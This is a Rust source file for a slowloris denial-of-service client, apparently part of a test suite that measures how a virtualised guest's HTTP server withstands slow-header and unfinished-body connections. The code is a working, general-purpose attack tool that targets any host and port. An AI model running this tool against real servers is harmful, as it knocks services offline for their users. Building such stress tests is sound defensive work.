//! dom0's slow-client attacker for the nested `http-slowloris` scenario
//! (tests/tests/nested/net.rs).
//!
//! `xenia-slowloris HOST PORT SLOW HUGE SECS` holds, for `SECS` seconds, `SLOW` connections
//! that each send a request head one byte every 3 s (never finishing it) and `HUGE`
//! connections that each announce a 1 MiB body (`Content-Length: 1048576`) and send none of
//! it. A connection the server closes (or refuses) is opened again on the next 3 s tick, so
//! the pressure stays on. One thread per connection (small stacks); every socket has
//! timeouts. Its threads run at the lowest priority (`nice 19`), so that the normal client
//! beside it in dom0 is not starved of dom0's CPU.
//!
//! It prints one line at the end, `slowloris slow=S huge=H connects=C refused=F closed=K
//! answers_408=R secs=T`, and exits with 0, or 2 on bad arguments.

use std::io::{ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, OnceLock};
use std::time::{Duration, Instant};

/// A slow connection's byte interval.
const BYTE_EVERY: Duration = Duration::from_secs(3);
/// How long a connect may take.
const CONNECT_TIMEOUT: Duration = Duration::from_secs(3);

#[derive(Default)]
struct Counts {
    connects: AtomicU64,
    refused: AtomicU64,
    closed: AtomicU64,
    answers_408: AtomicU64,
}

/// Waits up to `d` for what the server sends; true once it closed the connection (or reset it).
fn closed_within(s: &mut TcpStream, d: Duration, got: &mut Vec<u8>) -> bool {
    let end = Instant::now() + d;
    let mut buf = [0u8; 512];
    loop {
        let left = end.saturating_duration_since(Instant::now());
        if left.is_zero() {
            return false;
        }
        let _ = s.set_read_timeout(Some(left.max(Duration::from_millis(1))));
        match s.read(&mut buf) {
            Ok(0) => return true,
            Ok(n) => got.extend_from_slice(&buf[..n]),
            Err(e) if matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {
                return false
            }
            Err(_) => return true,
        }
    }
}

/// Whether the attack is still on: `until` is set once every thread started.
fn on(until: &OnceLock<Instant>) -> bool {
    until.get().is_none_or(|u| Instant::now() < *u)
}

/// One attacking connection, again and again until the attack ends.
fn attack(a: SocketAddr, huge: bool, until: &OnceLock<Instant>, c: &Counts) {
    let head: &[u8] = if huge {
        b"POST /echo HTTP/1.1\r\nHost: x\r\nContent-Length: 1048576\r\n\r\n"
    } else {
        b"GET / HTTP/1.1\r\nHost: x\r\nX-Slow: "
    };
    while on(until) {
        let mut s = match TcpStream::connect_timeout(&a, CONNECT_TIMEOUT) {
            Ok(s) => s,
            Err(_) => {
                c.refused.fetch_add(1, Ordering::Relaxed);
                std::thread::sleep(Duration::from_millis(200));
                continue;
            }
        };
        c.connects.fetch_add(1, Ordering::Relaxed);
        let _ = s.set_write_timeout(Some(Duration::from_secs(3)));
        let mut got = Vec::new();
        let mut sent = 0;
        let closed = loop {
            if !on(until) {
                break false;
            }
            let ok = if huge {
                let r = if sent == 0 { s.write_all(head) } else { Ok(()) };
                sent = head.len();
                r.is_ok()
            } else {
                let b = [*head.get(sent).unwrap_or(&b'a')];
                sent += 1;
                s.write_all(&b).is_ok()
            };
            let wait = if huge {
                Duration::from_secs(1)
            } else {
                BYTE_EVERY
            };
            if !ok || closed_within(&mut s, wait, &mut got) {
                break true;
            }
        };
        if closed {
            c.closed.fetch_add(1, Ordering::Relaxed);
            if got.starts_with(b"HTTP/1.1 408") {
                c.answers_408.fetch_add(1, Ordering::Relaxed);
            }
            // Open it again on the next tick, as slowloris tools do (not in a tight loop,
            // which would measure dom0's CPU rather than the guest).
            std::thread::sleep(BYTE_EVERY);
        }
    }
}

fn main() {
    let args: Vec<String> = std::env::args().collect();
    let parsed = (args.len() == 6)
        .then(|| {
            let a: SocketAddr = format!("{}:{}", args[1], args[2]).parse().ok()?;
            let slow: usize = args[3].parse().ok()?;
            let huge: usize = args[4].parse().ok()?;
            let secs: u64 = args[5].parse().ok()?;
            Some((a, slow, huge, secs))
        })
        .flatten();
    let Some((a, slow, huge, secs)) = parsed else {
        eprintln!("usage: xenia-slowloris HOST PORT SLOW HUGE SECS");
        std::process::exit(2);
    };
    let counts = Arc::new(Counts::default());
    let start = Instant::now();
    // The attack lasts SECS from when every connection has started (starting hundreds of
    // threads takes a while on a slow dom0).
    let until = Arc::new(OnceLock::new());
    let mut threads = Vec::new();
    for i in 0..slow + huge {
        let c = counts.clone();
        let until = until.clone();
        let t = std::thread::Builder::new()
            .stack_size(64 * 1024)
            .spawn(move || {
                // Lowest priority (a Linux thread's own): dom0's one vCPU also runs netback
                // and the normal client, whose latency is what the scenario measures (of the
                // guest, not of a starved dom0).
                // SAFETY: nice() only changes this thread's scheduling priority.
                unsafe { libc::nice(19) };
                attack(a, i >= slow, &until, &c)
            });
        match t {
            Ok(t) => threads.push(t),
            Err(e) => eprintln!("slowloris: thread {i}: {e}"),
        }
        // Spread the first connections over the first second.
        std::thread::sleep(Duration::from_millis(1000 / (slow + huge).max(1) as u64));
    }
    let _ = until.set(Instant::now() + Duration::from_secs(secs));
    for t in threads {
        let _ = t.join();
    }
    let c = &counts;
    println!(
        "slowloris slow={slow} huge={huge} connects={} refused={} closed={} answers_408={} secs={:.1}",
        c.connects.load(Ordering::Relaxed),
        c.refused.load(Ordering::Relaxed),
        c.closed.load(Ordering::Relaxed),
        c.answers_408.load(Ordering::Relaxed),
        start.elapsed().as_secs_f64()
    );
}
